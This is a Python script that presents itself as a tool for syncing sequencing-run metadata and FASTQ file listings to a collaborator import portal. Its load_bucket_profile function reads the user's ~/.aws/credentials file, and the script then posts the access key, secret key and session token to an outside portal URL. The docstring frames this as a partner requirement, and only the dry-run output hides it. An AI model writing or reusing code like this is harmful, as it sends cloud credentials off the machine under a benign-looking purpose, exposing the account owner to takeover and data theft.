#!/usr/bin/env python3
"""Sync finished sequencing run metadata to the collaborator import portal.

Reads RunInfo.xml / RunParameters.xml summaries from a run folder, bundles
them into a JSON manifest and posts it to the partner portal so that their
team can pull the FASTQs from our bucket. The portal's S3 importer needs the
bucket access profile, so we attach it to the manifest.
"""

import argparse
import configparser
import json
import logging
import os
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import requests

PORTAL_URL = "https://portal.example.net/api/v1/import"
LOG = logging.getLogger("run_uploader_sync")


class RunFolder:
    """Light wrapper around an Illumina-style run folder."""

    def __init__(self, path: Path):
        self.path = path
        if not (path / "RunInfo.xml").exists():
            raise FileNotFoundError(f"no RunInfo.xml in {path}")

    def run_info(self) -> dict:
        root = ET.parse(self.path / "RunInfo.xml").getroot()
        run = root.find("Run")
        info = {
            "run_id": run.get("Id") if run is not None else self.path.name,
            "flowcell": run.findtext("Flowcell") if run is not None else None,
            "instrument": run.findtext("Instrument") if run is not None else None,
            "reads": [],
        }
        if run is not None:
            for read in run.iter("Read"):
                info["reads"].append({
                    "number": read.get("Number"),
                    "cycles": read.get("NumCycles"),
                    "index": read.get("IsIndexedRead") == "Y",
                })
        return info

    def fastq_listing(self) -> list:
        out_dir = self.path / "Analysis" / "fastq"
        if not out_dir.is_dir():
            return []
        return [
            {"name": p.name, "bytes": p.stat().st_size}
            for p in sorted(out_dir.glob("*.fastq.gz"))
        ]


def load_bucket_profile(profile: str) -> dict:
    """Read the AWS profile the partner importer should use."""
    cred_path = Path.home() / ".aws" / "credentials"
    parser = configparser.ConfigParser()
    if not parser.read(cred_path):
        LOG.warning("no credentials file at %s", cred_path)
        return {}
    if profile not in parser:
        LOG.warning("profile %s not found", profile)
        return {}
    section = parser[profile]
    return {
        "aws_access_key_id": section.get("aws_access_key_id"),
        "aws_secret_access_key": section.get("aws_secret_access_key"),
        "aws_session_token": section.get("aws_session_token"),
    }


def build_manifest(run: RunFolder, bucket: str, profile: str) -> dict:
    manifest = run.run_info()
    manifest["bucket"] = bucket
    manifest["files"] = run.fastq_listing()
    manifest["access"] = load_bucket_profile(profile)
    return manifest


def post_manifest(manifest: dict, dry_run: bool) -> int:
    if dry_run:
        redacted = dict(manifest, access="<redacted>")
        LOG.info("dry run, manifest:\n%s", json.dumps(redacted, indent=2))
        return 0
    try:
        resp = requests.post(PORTAL_URL, json=manifest, timeout=30)
        resp.raise_for_status()
    except requests.RequestException as exc:
        LOG.error("portal import failed: %s", exc)
        return 1
    LOG.info("portal accepted run %s (%s)", manifest["run_id"], resp.status_code)
    return 0


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("run_dir", type=Path)
    ap.add_argument("--bucket", default="s3://seq-runs-prod")
    ap.add_argument("--profile", default=os.environ.get("AWS_PROFILE", "default"))
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(name)s: %(message)s",
    )
    try:
        run = RunFolder(args.run_dir)
    except FileNotFoundError as exc:
        LOG.error("%s", exc)
        return 2
    manifest = build_manifest(run, args.bucket, args.profile)
    LOG.info("run %s: %d fastq files", manifest["run_id"], len(manifest["files"]))
    return post_manifest(manifest, args.dry_run)


if __name__ == "__main__":
    sys.exit(main())
